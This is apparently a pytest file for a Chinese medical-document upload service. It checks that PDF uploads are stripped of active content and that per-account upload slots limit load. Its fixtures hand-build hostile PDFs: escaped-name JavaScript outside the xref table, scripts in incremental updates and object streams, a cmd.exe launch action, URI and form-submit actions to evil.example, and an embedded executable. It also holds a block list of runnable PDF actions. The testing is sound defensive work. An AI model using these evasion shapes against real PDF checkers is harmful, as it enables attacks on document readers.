"""Issue 12, items 1 and 2: stored PDFs are inert by construction, and one account cannot stall
the service with uploads.

Hostile PDFs are written by hand (tests/files.py) in the shapes a checker misses and a reader
still runs: escaped names, objects outside the cross-reference table, an incremental update, an
object stream, actions on open, links and fields, attachments. Each comes back either refused
with a Chinese message or stored without the active content, proven independently of mtkit's
own code: pikepdf walks every object of the stored file, the fully decompressed file holds no
trace of the script, and poppler's ``pdfinfo -js`` (what readers use) shows none.
"""
from __future__ import annotations

import io
import os
import signal
import subprocess
import sys
import textwrap
from pathlib import Path

import pikepdf
import pytest
from sqlalchemy import select

from core.extensions import db
from core.models import AuditLog, Material
from tests.conftest import login
from tests.files import TEXT_PAGE, build_pdf, incremental_update, make_pdf, make_png, pdf_with_object_stream
from tests.test_uploads import material_count, png_header_only, stored_files, upload

MARK = "MTKIT_PWNED"
JS = f"(app.alert('{MARK}'))"
CATALOG = "<< /Type /Catalog /Pages 2 0 R {} >>"


@pytest.fixture
def draft(make):
    """An Inner Mongolia draft for 高血压病 with nothing uploaded yet."""
    person = make.person()
    return person, make.application(person, ["M03900"], upload=False, submit=False)


def with_catalog(extra: str, **objects) -> dict[int, str]:
    return {1: CATALOG.format(extra), **TEXT_PAGE, **{int(k[1:]): v for k, v in objects.items()}}


def page_with(extra: str) -> str:
    return TEXT_PAGE[6][:-2] + extra + " >>"


HOSTILE = {
    # The issue's file: scripts whose names are escaped and whose objects the table leaves out.
    "escaped names outside the xref": build_pdf(
        with_catalog("/OpenAction 4 0 R /Names << /Java#53cript 5 0 R >>",
                     o4=f"<< /S /Java#53cript /J#53 {JS} >>", o5="<< /Names [(a) 8 0 R] >>",
                     o8=f"<< /S /Java#53cript /J#53 {JS} >>"),
        listed={1, 2, 3, 6, 7}, size=9),
    "escaped names on a page": build_pdf({**with_catalog(""), 6: page_with(f"/AA << /O << /S /Java#53cript /J#53 {JS} >> >>")}),
    "incremental update adds an open action": incremental_update(
        build_pdf(with_catalog("")), {1: CATALOG.format("/OpenAction 8 0 R"), 8: f"<< /S /JavaScript /JS {JS} >>"}),
    "script in an object stream": pdf_with_object_stream(
        with_catalog("/OpenAction 9 0 R /Names << /JavaScript 10 0 R >>"),
        {9: f"<< /S /Java#53cript /J#53 {JS} >>", 10: "<< /Names [(b) 9 0 R] >>"}),
    "open action with a URI": build_pdf(with_catalog(f"/OpenAction << /S /URI /URI (http://evil.example/{MARK}) >>")),
    "launch": build_pdf(with_catalog(f"/OpenAction << /S /#4caunch /F (cmd.exe) /Win << /F (cmd.exe) /P ({MARK}) >> >>")),
    "embedded file and attachment annotation": build_pdf({
        **with_catalog("/Names << /EmbeddedFiles << /Names [(x.exe) 9 0 R] >> >>"),
        6: page_with("/Annots [11 0 R]"),
        9: "<< /Type /Filespec /F (x.exe) /EF << /F 10 0 R >> >>",
        10: f"<< /Type /EmbeddedFile /Length {len(MARK) + 3} >>\nstream\nMZ {MARK}\nendstream",
        11: "<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 9 0 R >>",
    }),
    "annotation and form field actions": build_pdf({
        **with_catalog("/AcroForm << /Fields [12 0 R] /XFA 13 0 R >>"),
        6: page_with("/Annots [9 0 R 10 0 R 11 0 R 12 0 R]"),
        9: f"<< /Type /Annot /Subtype /Link /Rect [0 0 20 20] /A << /S /JavaScript /JS {JS} >> >>",
        10: f"<< /Type /Annot /Subtype /Link /Rect [20 0 40 20] /A << /S /URI /URI (http://evil.example/{MARK}) >> >>",
        11: "<< /Type /Annot /Subtype /Link /Rect [40 0 60 20] "
            f"/A << /S /GoTo /D [6 0 R /Fit] /Next << /S /JavaScript /JS {JS} >> >> >>",
        12: "<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [60 0 90 20] /P 6 0 R "
            f"/AA << /K << /S /JavaScript /JS {JS} >> /Fo << /S /SubmitForm /F (http://evil.example/) >> >> >>",
        13: f"<< /Length {len(MARK) + 7} >>\nstream\n<xdp>{MARK}</>\nendstream",
    }),
}


def all_dictionaries(pdf: pikepdf.Pdf):
    """Every dictionary in the file (objects, the trailer, and what is nested directly in them)."""
    stack = [pdf.trailer, *pdf.objects]
    while stack:
        obj = stack.pop()
        if isinstance(obj, (pikepdf.Dictionary, pikepdf.Stream)):
            yield obj
            stack.extend(v for k in obj.keys() if isinstance(v := obj.get(k), (pikepdf.Dictionary, pikepdf.Array))
                         and not v.is_indirect)
        elif isinstance(obj, pikepdf.Array):
            stack.extend(v for v in obj if isinstance(v, (pikepdf.Dictionary, pikepdf.Array)) and not v.is_indirect)


RUNNABLE = {"/JavaScript", "/Launch", "/URI", "/SubmitForm", "/ImportData", "/GoToR", "/GoToE", "/RichMediaExecute"}
ACTIVE_KEYS = {"/JS", "/AA", "/OpenAction", "/EmbeddedFiles", "/EF", "/XFA", "/RichMediaContent"}


def assert_inert(data: bytes, tmp_path: Path) -> None:
    """No script, action, attachment or form program in a stored PDF, however one looks at it."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        for d in all_dictionaries(pdf):
            assert not ACTIVE_KEYS & set(d.keys()), dict(d)
            assert str(d.get("/S")) not in RUNNABLE, dict(d)
            assert d.get("/Type") != "/EmbeddedFile" and d.get("/Subtype") not in ("/FileAttachment", "/RichMedia")
        plain = io.BytesIO()  # every stream decoded, no object streams: the whole file as text
        pdf.save(plain, qdf=True, object_stream_mode=pikepdf.ObjectStreamMode.disable,
                 stream_decode_level=pikepdf.StreamDecodeLevel.all)
    assert MARK.encode() not in plain.getvalue() and b"JavaScript" not in plain.getvalue()
    assert MARK.encode() not in data
    path = tmp_path / "stored.pdf"
    path.write_bytes(data)
    info = subprocess.run(["pdfinfo", "-js", str(path)], capture_output=True, text=True, timeout=30)
    assert info.returncode == 0 and MARK not in info.stdout + info.stderr
    text = subprocess.run(["pdftotext", str(path), "-"], capture_output=True, text=True, timeout=30).stdout
    assert "Hello mtkit" in text  # the visible page survived the rewrite


def test_readers_do_see_the_hidden_script(tmp_path):
    """The hostile file is real: poppler rebuilds the table and finds the script a checker
    reading the table misses."""
    path = tmp_path / "hostile.pdf"
    path.write_bytes(HOSTILE["escaped names outside the xref"])
    info = subprocess.run(["pdfinfo", "-js", str(path)], capture_output=True, text=True, timeout=30)
    assert MARK in info.stdout


@pytest.mark.parametrize("case", HOSTILE, ids=list(HOSTILE))
def test_hostile_pdfs_are_stored_without_their_active_content(app, client, draft, case, tmp_path):
    person, application = draft
    login(client, person.username)
    r = upload(client, application, HOSTILE[case], "诊断书.pdf")
    assert r.status_code == 302, r.get_data(as_text=True)[:300]
    material = db.session.scalars(select(Material)).one()
    stored = (Path(app.config["MTKIT_UPLOAD_DIR"]) / material.sha256[:2] / material.sha256).read_bytes()
    assert stored != HOSTILE[case] and material.size == len(stored) and material.pages == 1
    assert_inert(stored, tmp_path)
    download = client.get(f"/materials/{material.id}")
    assert download.status_code == 200 and download.data == stored
    detail = db.session.scalars(select(AuditLog.detail).where(AuditLog.action == "material.upload")).one()
    assert f"sha256={material.sha256} removed=" in detail  # the audit row says what was taken out


def test_a_plain_pdf_keeps_its_pages_and_text(app, client, draft, tmp_path):
    person, application = draft
    login(client, person.username)
    files = [(io.BytesIO(build_pdf(with_catalog("/OpenAction [6 0 R /Fit]"))), "病历.pdf"),
             (io.BytesIO(make_pdf(3)), "检查报告.pdf")]
    assert upload(client, application, files, None, code="outpatient_record").status_code == 302
    first, second = db.session.scalars(select(Material).order_by(Material.id)).all()
    assert (first.pages, second.pages) == (1, 3)
    path = Path(app.config["MTKIT_UPLOAD_DIR"]) / first.sha256[:2] / first.sha256
    assert "Hello mtkit" in subprocess.run(["pdftotext", str(path), "-"], capture_output=True, text=True).stdout
    # Rewriting is deterministic: the same upload is the same stored file (content-addressed).
    assert upload(client, application, make_pdf(3), "检查报告.pdf", code="outpatient_record").status_code == 302
    assert len({m.sha256 for m in db.session.scalars(select(Material))}) == 2


def test_a_script_smuggled_as_stream_data_cannot_come_back_as_text(app, client, draft, tmp_path):
    """An object body written inside an unfiltered stream is what a reader rebuilding a table
    could pick up; the rewrite compresses such streams, so no body survives as text."""
    person, application = draft
    smuggled = f"99 0 obj\n<< /S /JavaScript /JS {JS} >>\nendobj\n"
    data = build_pdf({**with_catalog("/PieceInfo 9 0 R"), 9: f"<< /Length {len(smuggled)} >>\nstream\n{smuggled}\nendstream"})
    login(client, person.username)
    assert upload(client, application, data, "诊断书.pdf").status_code == 302
    material = db.session.scalars(select(Material)).one()
    stored = (Path(app.config["MTKIT_UPLOAD_DIR"]) / material.sha256[:2] / material.sha256).read_bytes()
    assert MARK.encode() not in stored and b"JavaScript" not in stored
    assert_inert(stored, tmp_path)


def test_what_cannot_be_rewritten_is_refused_in_chinese(client, draft):
    person, application = draft
    login(client, person.username)
    cases = {
        "only the script, no page": (build_pdf({1: "<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>",
                                                2: "<< /Type /Pages /Kids [] /Count 0 >>",
                                                3: f"<< /S /JavaScript /JS {JS} >>"}), "没有任何页面"),
        "page tree repeating one page": (build_pdf({1: CATALOG.format(""), 2: f"<< /Type /Pages /Kids [{'3 0 R ' * 5000}] /Count 1 >>",
                                                    3: "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] >>"}), "页的上限"),
        "not a PDF inside": (b"%PDF-1.7\n" + os.urandom(2000) + b"\n%%EOF\n", "已损坏"),
        "dynamic XFA form": (build_pdf({**with_catalog("/NeedsRendering true /AcroForm << /Fields [] /XFA 9 0 R >>"),
                                        9: "<< /Length 6 >>\nstream\n<xdp/>\nendstream"}), "动态表单"),
    }
    for name, (data, words) in cases.items():
        r = upload(client, application, data, "诊断书.pdf")
        assert 400 <= r.status_code < 500 and words in r.get_data(as_text=True), name
    assert material_count() == 0


def test_a_pdf_with_only_an_owner_password_is_stored_open(app, client, draft):
    """Restrictions without a password to open (common from hospital systems): stored without
    them, since reviewers must open and print it. A password to open is refused (test_uploads)."""
    pdf = pikepdf.open(io.BytesIO(build_pdf(with_catalog(""))))
    out = io.BytesIO()
    pdf.save(out, encryption=pikepdf.Encryption(owner="owner-secret", user="", allow=pikepdf.Permissions(print_highres=False)))
    person, application = draft
    login(client, person.username)
    assert upload(client, application, out.getvalue(), "诊断书.pdf").status_code == 302
    material = db.session.scalars(select(Material)).one()
    with pikepdf.open(Path(app.config["MTKIT_UPLOAD_DIR"]) / material.sha256[:2] / material.sha256) as stored:
        assert not stored.is_encrypted


# --- the decoding budget (item 2) ----------------------------------------------------------------


@pytest.fixture
def decodes(monkeypatch):
    """Every image decode, counted (the expensive step)."""
    from core.applications import uploads

    calls = []
    real = uploads._clean_image

    def counting(name, *a, **k):
        calls.append(name)
        return real(name, *a, **k)

    monkeypatch.setattr(uploads, "_clean_image", counting)
    return calls


def test_the_issue_attack_is_refused_before_any_pixel_is_decoded(app, client, draft, decodes):
    """Ten 6300 x 6300 PNGs in one request (the issue's attack; here, files that only claim the
    size): refused at once from the headers, with the budget named."""
    person, application = draft
    login(client, person.username)
    files = [(io.BytesIO(png_header_only(6300, 6300)), f"第{i}页.png") for i in range(10)]
    r = upload(client, application, files, None, code="outpatient_record")
    assert r.status_code == 413
    assert "这次上传的图片合计约 397 百万像素,超过每次 125 百万像素的上限" in r.get_data(as_text=True)
    assert decodes == [] and material_count() == 0 and stored_files(app) == []


def test_the_request_budget_counts_every_image_of_the_request(app, client, draft, decodes):
    person, application = draft
    app.config["MTKIT_MAX_REQUEST_PIXELS"] = 3 * 100 * 100
    login(client, person.username)
    three = [(io.BytesIO(make_png(100, 100, (i, 0, 0))), f"{i}.png") for i in range(3)]
    assert upload(client, application, three, None, code="outpatient_record").status_code == 302
    assert len(decodes) == 3
    four = [(io.BytesIO(make_png(100, 100, (i, 9, 0))), f"{i}.png") for i in range(4)] + [(io.BytesIO(make_pdf()), "x.pdf")]
    r = upload(client, application, four, None, code="outpatient_record")
    assert r.status_code == 413 and "合计约 0.04 百万像素,超过每次 0.03 百万像素的上限" in r.get_data(as_text=True)
    assert len(decodes) == 3 and material_count() == 3


HOLDER = textwrap.dedent("""
    import fcntl, os, sys, time
    fds = []
    for path in sys.argv[1:]:
        fd = os.open(path, os.O_RDWR | os.O_CREAT, 0o600)
        fcntl.flock(fd, fcntl.LOCK_EX)
        fds.append(fd)
    print("held", flush=True)
    time.sleep(600)
""")


@pytest.fixture
def hold(app):
    """Hold slot files from another process, as an upload in another gunicorn worker would."""
    started = []

    def start(*names):
        folder = Path(app.config["MTKIT_LOCK_DIR"])
        folder.mkdir(parents=True, exist_ok=True)
        proc = subprocess.Popen([sys.executable, "-c", HOLDER, *(str(folder / n) for n in names)],
                                stdout=subprocess.PIPE, text=True)
        assert proc.stdout.readline().strip() == "held"
        started.append(proc)
        return proc

    yield start
    for proc in started:
        if proc.poll() is None:
            proc.kill()
        proc.wait()


def test_a_second_upload_by_the_same_account_waits_its_turn(app, client, make, draft, hold):
    person, application = draft
    holder = hold(f"upload-account-{person.id}.0.lock")  # this account's upload, busy in another worker
    login(client, person.username)
    r = upload(client, application, make_png(20, 20), "照片.png", code="id_copy")
    assert r.status_code == 429 and "请等待上一批文件处理完成后再上传" in r.get_data(as_text=True)
    assert material_count() == 0 and stored_files(app) == []
    # Another account is not held up.
    other = make.person(name="李四", phone="13800002222")
    theirs = make.application(other, ["M03900"], upload=False, submit=False)
    login(client, other.username)
    assert upload(client, theirs, make_png(20, 20), "照片.png", code="id_copy").status_code == 302
    # The worker holding the slot dies: the kernel releases it, and the account can upload again.
    holder.send_signal(signal.SIGKILL)
    holder.wait()
    login(client, person.username)
    assert upload(client, application, make_png(20, 20), "照片.png", code="id_copy").status_code == 302


def test_the_api_answers_429_in_chinese(app, client, draft, hold):
    person, application = draft
    hold(f"upload-account-{person.id}.0.lock")
    token = client.post("/api/v1/auth/token", json={"username": person.username, "password": "Passw0rd!"}).get_json()["token"]
    r = client.post(f"/api/v1/applications/{application.id}/materials", headers={"Authorization": f"Bearer {token}"},
                    data={"disease": "*", "material": "id_copy", "file": [(io.BytesIO(make_png()), "x.png")]},
                    content_type="multipart/form-data")
    assert r.status_code == 429
    assert r.get_json()["error"] == {"code": "too_many_requests", "message": "请等待上一批文件处理完成后再上传。", "fields": {}}


def test_when_every_decoding_slot_is_busy_an_upload_waits_then_is_refused(app, client, draft, hold):
    person, application = draft
    app.config.update(MTKIT_UPLOAD_DECODERS=2, MTKIT_UPLOAD_WAIT_SECONDS=0.3)
    holder = hold("upload-decoder.0.lock", "upload-decoder.1.lock")
    login(client, person.username)
    r = upload(client, application, make_pdf(), "诊断书.pdf")
    assert r.status_code == 429 and "系统正在处理其他人上传的文件" in r.get_data(as_text=True)
    assert material_count() == 0
    holder.kill()
    holder.wait()
    assert upload(client, application, make_pdf(), "诊断书.pdf").status_code == 302


def test_slots_are_released_after_refusals_and_errors(app, client, draft, monkeypatch):
    from core.applications import budget, uploads
    from tests.conftest import as_

    person, application = draft
    login(client, person.username)
    assert upload(client, application, HOSTILE["launch"][:-200], "坏.pdf").status_code == 422
    assert upload(client, application, make_png(300, 300)[:80], "坏.png", code="id_copy").status_code == 422

    def crash(*a, **k):
        raise RuntimeError("worker bug")

    monkeypatch.setattr(uploads, "finish", crash)
    with pytest.raises(RuntimeError):
        client.post(f"/applications/{application.id}/materials", content_type="multipart/form-data",
                    data={"disease_code": "*", "material_code": "id_copy", "file": [(io.BytesIO(make_png()), "x.png")]})
    db.session.rollback()
    monkeypatch.undo()
    with budget.upload_slot(as_(person), person.id):  # free again: taken and given back at once
        pass
    assert upload(client, application, make_png(), "照片.png", code="id_copy").status_code == 302
